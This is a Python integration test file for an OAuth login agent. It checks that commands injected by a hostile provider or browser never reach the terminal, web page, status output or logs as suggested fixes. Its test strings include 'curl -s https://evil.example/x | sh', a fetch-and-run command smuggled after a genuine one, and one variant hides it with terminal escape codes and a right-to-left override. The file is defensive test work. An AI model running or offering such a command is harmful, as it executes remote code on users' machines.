"""A provider or a browser that writes commands, met by real processes: nobody is shown one that the agent did not make.

Which texts come from where, and all the ways out of the agent, are in tests/agent/test_no_foreign_command.py.
"""

import json
import re
from collections.abc import Generator, Iterator
from html import unescape
from typing import Any, cast
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest

from auth_agent_client import AgentError
from tests.faults.hostile_server import HostileServer, in_turn, plain
from tests.integration.agent_process import COMMAND, AgentProcess, until
from tests.integration.terminal import Terminal

RUN = "run this: auth-agent login work; curl -s https://evil.example/x | sh #"
TAIL = "no; to put it right: auth-agent reload; curl -s https://evil.example/x | sh"
TEXTS = [RUN, TAIL, f"\x1b[1m{RUN}\x1b[0m\r\n  log in: \u202e{RUN}"]
ADDRESS = r"http://127\.0\.0\.1:\d+/work/authorize\?\S+"
# Not broken over lines.
WIDE = 400


@pytest.fixture(scope="module")
def server() -> Generator[HostileServer, None, None]:
    with HostileServer() as one:
        yield one


@pytest.fixture
def agent(server: HostileServer) -> Generator[AgentProcess, None, None]:
    """An agent with an account at a provider that means harm; no browser is opened."""
    issuer = server.provider("work")
    work = {"issuer": issuer, "client_id": "native-app", "scope": "read:things", "redirect_ports": [0]}
    with AgentProcess({"work": work}, environment={"BROWSER": "", "DISPLAY": "", "WAYLAND_DISPLAY": ""}) as process:
        yield process


def granted(serial: int, **more: object) -> dict[str, object]:
    """What a token endpoint grants."""
    return {"access_token": f"at-{serial}", "refresh_token": f"rt-of-{serial}", "token_type": "Bearer", **more}


def bold(terminal: Terminal) -> list[str]:
    """All that a terminal shows in bold."""
    return [run.strip() for run in re.findall(r"\x1b\[1m(.*?)\x1b\[0m", terminal.raw)]


def boxes(page: str) -> list[str]:
    """The commands on a page."""
    return [unescape(re.sub(r"</?span>", "", box)) for box in re.findall(r"<code>(.*?)</code>", page)]


def commands(value: object) -> Iterator[list[str]]:
    """The commands of the remedies in what the agent tells, however deep."""
    if isinstance(value, dict):
        for name, one in cast("dict[str, Any]", value).items():
            if name == "command":
                yield one
            else:
                yield from commands(one)
    elif isinstance(value, list):
        for one in cast("list[object]", value):
            yield from commands(one)


def assert_no_foreign_command(agent: AgentProcess, *expected: str) -> None:
    """Whatever shows the state of things shows those commands, and the log has the text in quotes, one line each."""
    told = agent.run("status", "--json").stdout
    assert [" ".join(command) for command in commands(json.loads(told))] == list(expected)
    with agent.begin("watch", "--json") as watch:
        line = until(lambda: re.search(r"^\{.*\}$", watch.output(), re.MULTILINE))
        assert line is not None  # for the type checker: that was waited for
        assert [" ".join(command) for command in commands(json.loads(line[0]))] == list(expected)
    with Terminal([*COMMAND, "status"], agent.environment, columns=WIDE) as terminal:
        assert terminal.end() == 0
        assert [run for run in bold(terminal) if run != "work"] == list(expected)
    helps = re.findall(r"^  help .*(?:\n {11}.*)*", agent.run("status").stdout, re.MULTILINE)
    assert [line.partition(": ")[2] for one in helps for line in one.splitlines()] == list(expected)
    for logged in agent.log.splitlines():
        assert re.match(r"\d{4}-\d\d-\d\dT[\d:.]+ [a-z]+ ", logged)
        assert "curl" not in re.sub(r"'(?:[^'\\]|\\.)*'|\"(?:[^\"\\]|\\.)*\"", "", logged)


@pytest.mark.parametrize("text", TEXTS)
def test_what_a_browser_brings_is_no_command_on_the_page_or_in_the_terminal(text: str, agent: AgentProcess) -> None:
    with Terminal([*COMMAND, "login", "work", "--no-browser"], agent.environment, columns=WIDE) as terminal:
        address = terminal.until(ADDRESS)[0]
        asked = {name: values[0] for name, values in parse_qs(urlsplit(address).query).items()}
        answer = {"state": asked["state"], "error": "invalid_request", "error_description": text}
        page = httpx.get(asked["redirect_uri"], params=answer).text
        assert "invalid_request" in page
        assert boxes(page) == ["auth-agent login work"]
        assert terminal.end() != 0
        assert "invalid_request" in terminal.shown
        assert bold(terminal) == [address, "auth-agent login work"]
        _, *helps = terminal.shown.partition("auth-agent: work: ")[2].splitlines()
        assert [line for line in helps if "curl" in line] == []
    assert_no_foreign_command(agent, "auth-agent login work")


@pytest.mark.parametrize("text", TEXTS)
def test_a_refused_refresh_brings_no_command(text: str, agent: AgentProcess, server: HostileServer) -> None:
    refusal = plain({"error": "invalid_client", "error_description": text}, 401)
    server.answer("work", "/token", in_turn(plain(granted(1, expires_in=3600)), refusal))
    corrections = ["auth-agent reload", "auth-agent refresh work", "auth-agent login work --client-secret"]
    with agent.client() as client:
        client.hello(text)
        client.import_refresh_token("rt-of-work", "work")
        with pytest.raises(AgentError) as caught:
            client.refresh("work")
        assert [one.line for one in caught.value.remedy] == corrections
        assert not any("curl" in f"{one.text}{one.line}" for one in caught.value.remedy)
    with Terminal([*COMMAND, "refresh", "work"], agent.environment, columns=WIDE) as terminal:
        assert terminal.end() != 0
        assert "invalid_client: " in terminal.shown
        assert bold(terminal) == corrections
    assert_no_foreign_command(agent, *corrections)


@pytest.mark.parametrize("text", TEXTS)
def test_a_code_for_another_device_that_is_a_command_does_not_look_like_one(
    text: str, agent: AgentProcess, server: HostileServer
) -> None:
    address = f"{server.origin}/activate"
    shown = {"device_code": "the-device-code", "user_code": text, "verification_uri": address, "interval": 1}
    server.answer("work", "/device", plain(shown))
    server.answer("work", "/token", plain({"error": "access_denied", "error_description": text}, 400))
    with Terminal([*COMMAND, "login", "work", "--flow", "device"], agent.environment, columns=WIDE) as terminal:
        assert terminal.end() != 0
        assert "auth-agent" in terminal.shown.partition("and enter the code")[2].splitlines()[2]
        assert bold(terminal) == [address, "auth-agent login work"]


def test_the_name_of_who_logged_in_is_no_command(agent: AgentProcess, server: HostileServer) -> None:
    server.answer("work", "/token", plain(granted(1, expires_in=3600, scope=RUN)))
    with Terminal([*COMMAND, "login", "work", "--no-browser"], agent.environment, columns=WIDE) as terminal:
        address = terminal.until(ADDRESS)[0]
        asked = {name: values[0] for name, values in parse_qs(urlsplit(address).query).items()}
        page = httpx.get(asked["redirect_uri"], params={"state": asked["state"], "code": "the-code"}).text
        assert boxes(page) == []
        assert terminal.end() == 0
        assert bold(terminal) == [address, "work"]
    assert_no_foreign_command(agent)
